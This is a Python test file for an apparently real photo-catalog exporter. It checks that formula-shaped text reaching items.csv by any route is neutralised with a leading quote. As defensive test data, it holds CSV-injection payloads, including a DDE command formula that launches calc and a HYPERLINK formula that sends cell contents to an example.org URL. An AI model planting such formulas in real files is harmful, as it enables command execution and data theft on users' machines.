"""``items.csv`` never hands a spreadsheet a formula, whatever its cells come from.

Formulas arrive by every road text takes into the catalog: typed in the inspector or on the
command line, read from a photo's XMP or IPTC at import, from a programme file, from a file
name. Each test puts formula-shaped text in by one road and reads every cell of the CSV.
``items.json`` is not a spreadsheet and keeps the text as it is; the pages escape it.
"""

from __future__ import annotations

import csv
import io
import json
import unicodedata
from html import unescape
from pathlib import Path

import pytest

from carnet.catalog.archive import Archive
from carnet.catalog.events import add_event
from carnet.catalog.items import add_people, add_tags, list_items, set_session, update_items
from carnet.importing.pipeline import ImportOptions, import_paths
from carnet.kit import ExportOptions, export_kit
from carnet.kit.export import CSV_FIELDS, _csv_safe
from carnet.programme.readers import read_programme
from carnet.programme.store import import_programme
from tests.imaging import make_jpeg, xmp_packet

SLUG = "formules"

# (what is typed, what items.csv must hold)
NEUTRALISED = [
    ("=1+1", "'=1+1"),
    (
        '=HYPERLINK("https://example.org/?"&A1,"clic")',
        '\'=HYPERLINK("https://example.org/?"&A1,"clic")',
    ),
    ("+33 6 12 34 56 78", "'+33 6 12 34 56 78"),
    ("-2+3", "'-2+3"),
    ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
    ("\t=1+1", "'\t=1+1"),
    ("\r=1+1", "'\r=1+1"),
    ("\n=1+1", "'\n=1+1"),
    (" =cmd|' /C calc'!A0", "' =cmd|' /C calc'!A0"),
    ("\u00a0=1+1", "'\u00a0=1+1"),  # no-break space
    ("\u202e=1+1", "'\u202e=1+1"),  # right-to-left override (invisible)
    ("\ufeff=1+1", "'\ufeff=1+1"),  # byte order mark (invisible)
    ("\u200b@x", "'\u200b@x"),  # zero-width space
    ("＝1+1", "'＝1+1"),  # full-width equals
    ("＋1", "'＋1"),
    ("－1", "'－1"),
    ("＠x", "'＠x"),
    ("﹦1", "'﹦1"),  # small equals
]
UNTOUCHED = [
    "",
    "La société des communs",
    "javascript:alert(3)",
    "1+1=2",
    "a-b",
    "Débat: =1",
    "e-mail@example.org",
    "'déjà cité'",
    "−5 °C",  # U+2212 MINUS SIGN: not read as a formula
]


@pytest.mark.parametrize(("typed", "written"), NEUTRALISED)
def test_formula_starts_get_a_quote(typed: str, written: str) -> None:
    assert _csv_safe(typed) == written


@pytest.mark.parametrize("text", UNTOUCHED)
def test_plain_text_is_left_alone(text: str) -> None:
    assert _csv_safe(text) == text


def dangerous(cell: str) -> bool:
    """Would a spreadsheet read ``cell`` as a formula? (the rule, written independently)"""
    if cell[:1] in ("\t", "\r", "\n"):
        return True
    for char in cell:
        if char.isspace() or unicodedata.category(char) == "Cf":
            continue
        return unicodedata.normalize("NFKC", char)[0] in "=+-@"
    return False


PROGRAMME = """titre;date;début;fin;salle;parcours;intervenants
=1+1 session;29/09/2016;10:00;11:00;@salle;+parcours;-Marie Curie / ＝Ada
"""


@pytest.fixture(scope="module")
def kit(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """An archive whose every text field holds a formula, from every road; its kit."""
    root = tmp_path_factory.mktemp("formulas")
    sources = root / "sources"
    photos = [
        make_jpeg(
            sources / "=cmd|' calc'!A0.jpg",  # the file name is a formula
            (320, 240),
            captured_at="2016:09:29 10:10:00",
            xmp=xmp_packet(
                title='=HYPERLINK("https://example.org","x")',
                description="+1+1 from XMP",
                subject=["@SUM(1;2)", "-2+3", "＝ fullwidth", "plain"],
                extra=(
                    '<Iptc4xmpCore:AltTextAccessibility xmlns:Iptc4xmpCore="http://iptc.org/'
                    'std/Iptc4xmpCore/1.0/xmlns/"><rdf:Alt><rdf:li xml:lang="x-default">'
                    "=alt text</rdf:li></rdf:Alt></Iptc4xmpCore:AltTextAccessibility>"
                ),
            ),
        ),
        make_jpeg(
            sources / "-photo.jpg",
            (320, 240),
            color=(40, 120, 200),
            captured_at="2016:09:29 10:20:00",
            iptc={"title": "@IPTC title", "caption": "=IPTC caption", "keywords": ["+kw"]},
        ),
        make_jpeg(sources / "plain.jpg", (320, 240), color=(60, 160, 90)),
    ]
    path = root / "Formulas.carnet"
    with Archive.create(path) as archive:
        db = archive.db
        event = add_event(db, slug=SLUG, name="=event", timezone="Europe/Paris", language="fr")
        programme = root / "programme.csv"
        programme.write_text(PROGRAMME, encoding="utf-8")
        import_programme(db, event, read_programme(programme, event.timezone))
        import_paths(
            archive, photos, ImportOptions(event=SLUG, illustrator="@Illustratrice", jobs=1)
        )
        items = [it.id for it in list_items(db, event_id=event.id)]
        session = int(db.query("SELECT id FROM sessions")[0][0])
        update_items(
            db,
            [items[2]],
            title="－1 typed",
            caption=" =cmd|' /C calc'!A0",
            transcription="\t=1+1\n- a list\n- of points",
            rights="\u00a0=rights",
            alt_text="\u202e=alt",
        )
        update_items(db, items, published=True)
        set_session(db, items, session)
        with db.transaction() as conn:
            add_tags(conn, items[2:], ["=tag/deep", "ok"])
            add_people(conn, items[2:], ["+Speaker"], "speaker")
            add_people(conn, items[2:], ["\ufeff@Illustrator"], "illustrator")
    out = root / "kit"
    with Archive.open(path, readonly=True) as archive:
        export_kit(archive, SLUG, out, ExportOptions(originals=True))
    return out


def csv_rows(kit: Path) -> list[dict[str, str]]:
    text = (kit / "data/items.csv").read_text("utf-8-sig")
    return list(csv.DictReader(io.StringIO(text)))


def test_no_cell_of_items_csv_is_a_formula(kit: Path) -> None:
    rows = csv_rows(kit)
    assert len(rows) == 3
    for row in rows:
        assert list(row) == list(CSV_FIELDS)
        for column, cell in row.items():
            assert not dangerous(cell), (row["id"], column, cell)


def test_every_road_reached_the_csv_neutralised(kit: Path) -> None:
    cells = {(row["id"], column): cell for row in csv_rows(kit) for column, cell in row.items()}
    values = set(cells.values())
    expected = {
        # XMP and IPTC read at import
        '\'=HYPERLINK("https://example.org","x")',
        "'+1+1 from XMP",
        "'=alt text",
        "'@IPTC title",
        "'=IPTC caption",
        # the file names
        "'=cmd|' calc'!A0.jpg",
        "'-photo.jpg",
        # the programme file
        "'=1+1 session",
        "'@salle",
        "'+parcours",
        # typed (the catalog trims spaces around a value; the first tests cover them)
        "'－1 typed",
        "'=cmd|' /C calc'!A0",
        "'=1+1\n- a list\n- of points",
        "'=rights",
        "'\u202e=alt",
    }
    assert expected <= values, expected - values
    # Lists are one cell each: the joined cell is what a spreadsheet reads.
    tags = {cell for (_id, column), cell in cells.items() if column == "tags"}
    assert tags == {"'-2+3; @SUM(1;2); plain; ＝ fullwidth", "'+kw", "'=tag/deep; ok"}
    speakers = {cell for (_id, column), cell in cells.items() if column == "speakers"}
    assert speakers == {"", "'+Speaker"}
    illustrators = {cell for (_id, column), cell in cells.items() if column == "illustrators"}
    assert illustrators == {"'@Illustratrice", "'@Illustratrice; \ufeff@Illustrator"}
    # Numbers stay numbers.
    assert all(row["width"].isdigit() and row["id"].isdigit() for row in csv_rows(kit))


def test_items_json_keeps_the_text_as_typed(kit: Path) -> None:
    data = json.loads((kit / "data/items.json").read_text("utf-8"))
    items = data["items"]
    titles = {item["title"] for item in items}
    assert '=HYPERLINK("https://example.org","x")' in titles and "－1 typed" in titles
    assert data["event"]["name"] == "=event"
    assert any("=tag/deep" in item["tags"] for item in items)
    assert not any(
        isinstance(v, str) and v.startswith("'=") for item in items for v in item.values()
    )


def test_pages_escape_the_same_text(kit: Path) -> None:
    pages = "".join(p.read_text("utf-8") for p in (kit / "data/items").glob("*.html"))
    assert "=HYPERLINK(&#34;https://example.org&#34;,&#34;x&#34;)" in pages
    assert "'=HYPERLINK" not in unescape(pages)  # the quote is for spreadsheets only
    assert "&#39;=" not in pages
